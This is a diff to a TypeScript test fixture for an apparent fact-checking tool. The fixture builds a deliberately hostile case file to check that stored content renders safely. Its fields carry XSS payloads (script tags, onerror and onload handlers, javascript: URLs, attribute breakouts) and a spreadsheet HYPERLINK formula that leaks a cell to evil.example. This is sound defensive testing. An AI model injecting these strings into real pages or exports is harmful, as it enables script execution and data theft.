@@ -5,7 +5,8 @@
  * The text is what an HTML importer would produce from a hostile page (tags arrive as text).
  */
 import type { CaseFile } from '../../../src/shared/case'
-import { articleFrom, caseAround, itemAt, source, statusChange } from './fixture'
+import { articleOf, claim, p, quote, source, standfirst, statusChange, title } from '../../helpers/builders'
+import { checkedInDraft2, secondDraftCase } from './fixture'
 
 export const SCRIPT = '<script>alert("x")</script>'
 const IMG = '<img src=x onerror=alert(1)>'
@@ -18,16 +19,11 @@ export function hostileCase(): CaseFile {
   const p2 = `Budget rose 12% ${STYLE_BREAK} according to officials.`
   const p3 = `“${RTL}, and <a href="javascript:alert(1)">click</a>,” wrote <b onmouseover=alert(1)>Alex</b>.`
   const p4 = `=HYPERLINK("https://evil.example/?leak="&A1,"Click") ${CSS} cost 40 million.`
-  const article = articleFrom(
-    [
-      ['title', `Hostile ${SCRIPT} headline`],
-      ['standfirst', `<iframe src="https://evil.example/"></iframe> standfirst`],
-      ['paragraph', p1],
-      ['paragraph', p2],
-      ['paragraph', p3],
-      ['paragraph', p4]
-    ],
-    { author: '"><svg onload=alert(1)>', date: '2024-02-01', url: 'javascript:alert(1)', 'review-url': 'https://evil.example/" onclick="x' }
+  const article = articleOf(
+    { author: '"><svg onload=alert(1)>', date: '2024-02-01', url: 'javascript:alert(1)', 'review-url': 'https://evil.example/" onclick="x' },
+    title(`Hostile ${SCRIPT} headline`),
+    standfirst(`<iframe src="https://evil.example/"></iframe> standfirst`),
+    ...[p1, p2, p3, p4].map(p)
   )
   const text = article.text
   const sources = [
@@ -60,7 +56,9 @@ export function hostileCase(): CaseFile {
     { id: 'incorrect', label: '</style>Incorrect', color: '#d93025', description: '', resolved: true }
   ]
   const items = [
-    itemAt(text, p1, 'i1', {
+    claim(text, p1, {
+      id: 'i1',
+      ...checkedInDraft2(),
       status: 'verified',
       sourceIds: ['s1', 's3'],
       verdictNote: `${SCRIPT} note`,
@@ -69,24 +67,29 @@ export function hostileCase(): CaseFile {
       queries: [{ id: 'q1', at: '2024-02-02T09:00:00.000Z', by: 'Eve', text: `${IMG}?`, resolvedAt: null, resolvedBy: null, answer: null }],
       history: [statusChange('2024-02-02T09:00:00.000Z', `<img src=x onerror=alert(2)>`, 'unchecked', 'verified', 'd2')]
     }),
-    itemAt(text, p2, 'i2" onmouseover="alert(1)', {
+    claim(text, p2, {
+      id: 'i2" onmouseover="alert(1)',
+      ...checkedInDraft2(),
       status: 'incorrect',
       sourceIds: ['s2'],
       correction: { replacement: `Budget rose 10% ${SCRIPT}`, at: '2024-02-02T09:00:00.000Z', by: 'Eve' }
     }),
-    itemAt(text, `${RTL}, and <a href="javascript:alert(1)">click</a>,`, 'i3', {
-      kind: 'quote',
-      claimType: null,
+    quote(text, `${RTL}, and <a href="javascript:alert(1)">click</a>,`, {
+      id: 'i3',
+      ...checkedInDraft2(),
+      score: 0.8, // a quote with a score: whatever a case file holds must render safely
       status: '<script>bad-status</script>',
       speaker: { name: '<b onmouseover=alert(1)>Alex</b>', description: `${SCRIPT}`, anonymous: false }
     }),
-    itemAt(text, p4, 'i4', {
+    claim(text, p4, {
+      id: 'i4',
+      ...checkedInDraft2(),
       status: 'unchecked',
       previousText: `-old ${SCRIPT} wording`,
       history: [{ at: '2024-02-02T09:00:00.000Z', by: 'Factdesk', action: 'revised', detail: 'changed', draftId: 'd2' }]
     })
   ]
-  const hostile = caseAround(article, `${text}\n\nold`, items, sources, 'case-hostile')
+  const hostile = secondDraftCase(article, `${text}\n\nold`, items, sources, 'case-hostile')
   hostile.statuses = statuses
   hostile.ratingMap = [{ status: 'verified', ratingValue: 5, alternateName: `True ${SCRIPT}` }, { status: 'incorrect', ratingValue: 1, alternateName: 'False' }]
   hostile.drafts[1].fileName = `${SCRIPT}.html`
